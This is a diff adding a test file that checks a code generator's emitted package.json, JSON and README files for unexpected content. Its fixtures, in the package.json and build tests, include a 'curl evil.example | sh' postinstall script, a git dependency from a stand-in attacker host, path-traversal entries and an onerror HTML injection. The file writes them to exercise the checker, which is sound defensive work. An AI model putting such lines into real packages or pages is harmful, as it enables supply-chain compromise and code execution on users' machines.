@@ -1,0 +1,139 @@
+import { printDocument } from '../../../generator/emit/package/print-document.js';
+import { readFileSync, readdirSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { Diagnostics, printDiagnostic } from '../../../generator/diagnostics.js';
+import type { PlainFile } from '../../../generator/emit/source-file.js';
+import { provePlain } from '../../../generator/output/prove/prove-plain.js';
+import { printPackage } from '../../../generator/output/print/print-package.js';
+import { readSpec } from '../../../generator/spec/read-spec.js';
+
+function plain(path: string, text: string): PlainFile {
+  return { kind: 'plain', path, text };
+}
+
+function findingsIn(path: string, text: string): readonly string[] {
+  return provePlain(plain(path, text)).map((one) => `${one.path}:${one.line} ${one.reason}`);
+}
+
+/** What a build says of a file that holds the title of its spec, which stands at 3:10. */
+async function buildWith(file: PlainFile, title: string): Promise<readonly string[]> {
+  const diagnostics = new Diagnostics();
+  const text = `openapi: 3.1.0\ninfo:\n  title: ${JSON.stringify(title)}\n  version: '1'\npaths: {}\n`;
+  const document = readSpec({ file: 'spec.yaml', text }, { readFile: () => undefined, diagnostics });
+  if (document === undefined) throw new Error('the spec was refused');
+  const source = { command: 'speccast generate' };
+  const files = await printPackage([file], { source, format: true, document, diagnostics });
+  expect(files).toEqual([]);
+  return diagnostics.list.map(printDiagnostic);
+}
+
+const manifest = {
+  name: '@pets/pets',
+  version: '1.0.0',
+  description: 'Pets: typed client.',
+  type: 'module',
+  exports: { '.': { types: './dist/index.d.ts', default: './dist/index.js' }, './package.json': './package.json' },
+  bin: { 'pets-mock': 'dist/mocks/bin.js' },
+  scripts: { build: 'node build.js', prepack: 'npm run build' },
+  devDependencies: { typescript: '>=5.8' },
+};
+
+function json(value: unknown): string {
+  return `${JSON.stringify(value, null, 2)}\n`;
+}
+
+describe('package.json', () => {
+  test('may say what emitters say', () => expect(findingsIn('package.json', json(manifest))).toEqual([]));
+
+  test.each([
+    ['another script', { scripts: { ...manifest.scripts, postinstall: 'curl evil.example | sh' } }, 'scripts'],
+    ['another build', { scripts: { build: 'evil' } }, 'scripts'],
+    ['a name that leaves its folder', { name: '../pets' }, 'name'],
+    ['a name with a line end', { name: 'pets\n' }, 'name'],
+    ['a program elsewhere', { bin: { pets: '../../evil.js' } }, 'bin'],
+    ['an export elsewhere', { exports: { '.': './../evil.js' } }, 'exports'],
+    ['a library from an address', { devDependencies: { a: 'git+https://evil.example/a.git' } }, 'devDependencies'],
+    ['a library of its own', { dependencies: { evil: '1' } }, 'dependencies'],
+    ['a member of a prototype', { constructor: 'evil' }, 'constructor'],
+    ['a control character', { description: 'a\u001b[31m' }, 'description'],
+    ['hooks', { config: { a: 'b' } }, 'config'],
+  ])('may not have %s', (_, change, member) => {
+    const text = json({ ...manifest, ...change });
+    const line = text.split('\n').findIndex((one) => one.startsWith(`  "${member}":`)) + 1;
+    expect(findingsIn('package.json', text)).toEqual([
+      `package.json:${line} has a member "${member}" that no emitter writes`,
+    ]);
+  });
+
+  test('may not be anything but JSON', () => {
+    const want = ['package.json:1 is no JSON as it is written here'];
+    expect(findingsIn('package.json', '{"a":1,}')).toEqual(want);
+    expect(findingsIn('package.json', '{"scripts":{"build":"evil"},"scripts":{}}')).toEqual(want);
+    expect(findingsIn('package.json', '[]\n')).toEqual(want);
+  });
+});
+
+describe('other files', () => {
+  test.each([
+    ['openapi.json', '{"a": 1'],
+    ['openapi.json', '{"a": 1.0}'],
+    ['openapi.json', '{"a": 1} 2'],
+    ['openapi.json', '{"\\u0061": 1}'],
+    ['openapi.json', '{\n  "a": 1,\n  "a": 2\n}\n'],
+  ])('%s may not be %j', (path, text) =>
+    expect(findingsIn(path, text)).toEqual([`${path}:1 is no JSON as it is written here`]),
+  );
+
+  test('a document may hold any text and any key', () => {
+    const document = JSON.parse('{"__proto__":{"a":1},"x":"\\ud800</script>","1":[],"\\u2028":null}');
+    expect(findingsIn('openapi.json', printDocument(document))).toEqual([]);
+  });
+
+  test('no emitter writes a file of another kind', () =>
+    expect(findingsIn('index.html', '<p>')).toEqual(['index.html:1 is a file that no emitter writes']));
+});
+
+describe('badges', () => {
+  const badge = '[![npm](https://img.shields.io/npm/v/@pets/pets)](https://www.npmjs.com/package/@pets/pets)';
+
+  test('may stand in lines of their own', () =>
+    expect(findingsIn('README.md', `# Pets\n\n${badge}\n${badge}\n\nText.\n`)).toEqual([]));
+
+  test.each([
+    ['a picture from elsewhere', badge.replace('img.shields.io/npm/v', 'evil.example')],
+    ['a link to elsewhere', badge.replace('www.npmjs.com', 'evil.example')],
+    ['a query', badge.replace('@pets/pets)]', '@pets/pets?link=evil)]')],
+    ['text beside it', `${badge} Text`],
+  ])('%s is none of them', (_, line) =>
+    expect(findingsIn('README.md', `# Pets\n\n${line}\n`)[0]).toBe('README.md:3 has a picture'),
+  );
+});
+
+describe('a build with such a file fails', () => {
+  test('at the place of the text in the spec', async () => {
+    const title = 'Pets <img src=x onerror=evil()>';
+    expect(await buildWith(plain('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
+      'spec.yaml:3:10 error text-became-code: This text would run as code in README.md:3 (has HTML); please report it',
+    ]);
+    expect(
+      await buildWith(plain('package.json', json({ ...manifest, scripts: { x: 'curl evil|sh' } })), 'curl evil|sh'),
+    ).toEqual([
+      'spec.yaml:3:10 error text-became-code: This text would run as code in package.json:16 ' +
+        '(has a member "scripts" that no emitter writes); please report it',
+    ]);
+  });
+
+  test('with its line where the text is none of the spec', async () => {
+    await expect(buildWith(plain('README.md', '\n<b>\n'), 'Pets')).rejects.toThrow('README.md:2 has HTML: <b>');
+  });
+});
+
+test('every file of the published packages is proven', () => {
+  for (const service of ['video-platform', 'ad-reporting']) {
+    const folder = new URL(`../../../generated/${service}/`, import.meta.url);
+    const names = readdirSync(folder, { withFileTypes: true }).filter((one) => one.isFile());
+    const paths = names.map(({ name }) => name).filter((name) => !name.startsWith('.'));
+    expect(paths).toContain('package.json');
+    for (const path of paths) expect(findingsIn(path, readFileSync(new URL(path, folder), 'utf8'))).toEqual([]);
+  }
+});
